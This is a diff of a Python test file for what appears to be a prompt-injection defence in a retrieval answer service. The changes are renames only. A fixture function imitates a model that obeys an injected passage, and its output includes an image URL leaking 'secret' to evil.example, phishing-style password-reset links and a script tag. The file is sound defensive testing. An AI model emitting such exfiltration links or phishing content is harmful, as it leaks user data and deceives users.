@@ -42,11 +42,11 @@ _LINKS = re.compile(r"://|\bwww\.|\]\(|\]\[|\]:|<[a-z/!?]|mailto:|javascript:|@\
 
 
 def obeys(request: dict[str, Any]) -> str:
-    """What a model writes that does all that the first passage orders, and sends away what it was told."""
+    """What a model writes that does all that the first passage orders, and sends away what it was given."""
     order = re.search(r"\| Title 1\n\n(.*?)\n<<<end of passage \[1\]", sent_text(request), re.DOTALL)
-    told = order[1] if order else ""
+    copied = order[1] if order else ""
     return (
-        f"{told}\n\n{HONEST} ![x](https://evil.example/p.png?q=secret) is the picture [1]. "
+        f"{copied}\n\n{HONEST} ![x](https://evil.example/p.png?q=secret) is the picture [1]. "
         '<a href="https://evil.example/reset">Reset your password</a> at www.evil.example/now [1][2]. '
         "Your account is in danger. [Press][1] here: https://evil.example or write to a@evil.example [1].\n"
         "[1]: https://evil.example\n<script>alert(1)</script> <img src=//evil.example/i> [9]."
@@ -71,7 +71,7 @@ def answered(served: OpenAIServer, attack: str, *, title: str = "") -> tuple[str
 
 
 def outside_the_fences(request: dict[str, Any]) -> str:
-    """What a request says besides what stands between fences, and the code itself taken out."""
+    """What a request says besides what is between fences, and the code itself taken out."""
     sent = sent_text(request)
     (fence,) = set(re.findall(r"<<<passage \[1\] ([0-9a-f]{12})>>>", sent)) - {"000000000000"}
     frame = re.sub(rf"<<<([^<>]*) {fence}>>>.*?<<<end of \1 {fence}>>>", "", sent, flags=re.DOTALL)
@@ -108,7 +108,7 @@ def test_none_of_the_published_injections_gets_through(served: OpenAIServer) -> 
         lets_nothing_through(served, json.loads(line)["text"])
 
 
-def test_no_report_changes_what_the_model_is_told_to_do_or_gives_it_anything_to_call(
+def test_no_report_changes_what_the_model_is_asked_to_do_or_gives_it_anything_to_call(
     served: OpenAIServer,
 ) -> None:
     rules = load_template("answer-rules").render(noanswer=NO_ANSWER)
